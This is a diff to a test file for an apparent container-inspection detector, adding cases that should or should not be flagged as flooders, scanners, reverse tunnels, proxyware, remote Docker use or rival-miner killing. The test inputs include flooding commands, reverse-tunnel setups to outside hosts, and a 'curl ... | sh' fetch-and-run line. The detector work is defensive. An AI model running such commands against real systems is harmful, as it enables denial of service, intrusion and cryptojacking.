@@ -85,6 +85,17 @@ describe('what configuration and history give away', () => {
     assert.deepEqual(rules(inspect({ entrypoint: ['tini', '--'], cmd: ['./db1000n'] })), ['flooder high']);
     assert.deepEqual(rules(inspect({ cmd: ['masscan', '0.0.0.0/0', '-p2375'] })), ['scanner high']);
     assert.deepEqual(inspect({ cmd: ['bombardier', '-c', '10', 'http://localhost:8080'] }), []);
+    const measured = ['bombardier', '-c', '50', '-d', '30s', 'https://www.example.org'];
+    assert.deepEqual(rules(inspect({ cmd: measured })), ['flooder medium']);
+    const disbalancer = ['/app/launcher-disbalancer-go-client-linux-amd64'];
+    assert.deepEqual(rules(inspect({ cmd: disbalancer })), ['flooder high']);
+    assert.deepEqual(inspect({ cmd: ['hping3', '--flood', '127.0.0.1'] }), []);
+    assert.deepEqual(inspect({ cmd: ['slowhttptest', '-c', '1000', '-u', 'http://web:8080/'] }), []);
+    assert.deepEqual(rules(inspect({ cmd: ['slowloris', 'www.example.org', '-s', '500'] })), [
+      'flooder high',
+    ]);
+    assert.deepEqual(inspect({ cmd: ['masscan', '--version'] }), []);
+    assert.deepEqual(rules(inspect({ cmd: ['masscan', '10.0.0.0/8', '-p80'] })), ['scanner low']);
     assert.deepEqual(rules(inspect({ cmd: ['ngrok', 'tcp', '22'] })), ['tunnel medium']);
     assert.deepEqual(rules(inspect({ cmd: ['ssh', '-fN', '-R', '22:localhost:22', 'u@h.example.net'] })), [
       'tunnel medium',
@@ -93,7 +104,73 @@ describe('what configuration and history give away', () => {
       'proxyware medium',
     ]);
     assert.deepEqual(inspect({ cmd: ['ssh', '-L', '5432:db:5432', 'u@h.example.net'] }), []);
+    assert.deepEqual(inspect({ cmd: ['ssh', '-oRequestTTY=no', 'u@h.example.net'] }), []);
+    assert.deepEqual(inspect({ cmd: ['ssh', '-R', '80:localhost:80', 'u@10.0.0.5'] }), []);
     assert.deepEqual(inspect({ cmd: ['python3', 'start.py', '--port', '80'] }), []);
+  });
+
+  it('finds tunnels by how they are started', () => {
+    for (const command of [
+      'frpc -c /etc/frpc.ini',
+      'frpc tcp -s 198.51.100.7:7000 -l 22 -r 6000',
+      'chisel client http://198.51.100.7:8080 R:socks',
+      'tmate -F -k tmk-x',
+      'bore local 22 --to bore.example.org',
+      'gost -L socks5://:1080',
+      'lt --port 80',
+      'npx localtunnel --port 80',
+      'cloudflared tunnel --no-autoupdate run --token x',
+      'ssh -R 80:localhost:3000 serveo.example.net',
+    ]) {
+      assert.deepEqual(rules(inspect({ cmd: command.split(' ') })), ['tunnel medium'], command);
+    }
+    for (const command of [
+      'chisel server',
+      'cloudflared version',
+      'frps -c x',
+      'tmate -V',
+      'lt',
+      'gost -V',
+    ]) {
+      assert.deepEqual(inspect({ cmd: command.split(' ') }), [], command);
+    }
+  });
+
+  it('finds programs that sell bandwidth by their options and accounts, under any name', () => {
+    for (const config of [
+      { entrypoint: ['./Cli'], cmd: ['start', 'accept', '--token', 'x='] },
+      { cmd: ['/nh.sh', '--token=0123', '--mode=exchange'] },
+      { cmd: ['/app/x', '-tou-accept', '-email', 'a@b.c', '-pass', 'x', '-device', 'y'] },
+      { cmd: ['/app/x', '-email=a@b.c', '-password=x', '-device-name=y', '-accept-tos'] },
+      { cmd: ['/app/bitpingd'] },
+      { cmd: ['/start.sh'], env: [`EARNAPP_UUID=sdk-node-${'0a'.repeat(16)}`] },
+      { cmd: ['/start.sh'], env: ['BITPING_EMAIL=a@example.org'] },
+    ]) {
+      assert.deepEqual(rules(inspect(config)), ['proxyware medium'], JSON.stringify(config));
+    }
+    for (const config of [
+      { cmd: ['./Cli', 'start', '--token', 'x'] },
+      { cmd: ['/app/x', '--mode=exchange'] },
+      { cmd: ['/app/mail', '-email', 'a@b.c', '-password', 'x'] },
+      { cmd: ['/start.sh'], env: ['BITPING_EMAIL=', 'EARNAPP_UUID=changeme', 'EMAIL=a@example.org'] },
+    ]) {
+      assert.deepEqual(inspect(config), [], JSON.stringify(config));
+    }
+  });
+
+  it("finds containers started through another host's Docker", () => {
+    const docker = (host: string) => rules(inspect({ cmd: ['docker', '-H', host, 'run', '-d', 'x/y'] }));
+    assert.deepEqual(docker('tcp://198.51.100.7:2375'), ['remote-docker high']);
+    assert.deepEqual(docker('tcp://docker:2375'), []);
+    assert.deepEqual(docker('tcp://10.0.0.5:2375'), []);
+    assert.deepEqual(docker('unix:///var/run/docker.sock'), []);
+  });
+
+  it('takes killed miners for rivals only beside other signs of an intruder', () => {
+    const rivals = (text: string) =>
+      rules(inspect({ cmd: ['sh', '-c', text] })).filter((rule) => rule.startsWith('rivals'));
+    assert.deepEqual(rivals('pkill xmrig || true; exec nginx'), ['rivals-killed medium']);
+    assert.deepEqual(rivals('pkill xmrig; curl http://198.51.100.7/x | sh'), ['rivals-killed high']);
   });
 
   it('finds the preparations of intruders', () => {
@@ -105,7 +182,7 @@ describe('what configuration and history give away', () => {
       ['sysctl -w vm.nr_hugepages=1280', 'mining-preparation medium'],
       ['echo 128 > /proc/sys/vm/nr_hugepages', 'mining-preparation medium'],
       ['modprobe msr allow_writes=on', 'mining-preparation medium'],
-      ['pkill -f kdevtmpfsi', 'rivals-killed high'],
+      ['pkill -f kdevtmpfsi', 'rivals-killed medium'],
       ['chattr -ia /etc/crontab', 'immutable-file medium'],
       ['unset HISTFILE', 'traces-hidden medium'],
       ['nsenter --target 1 --mount sh', 'escape high'],
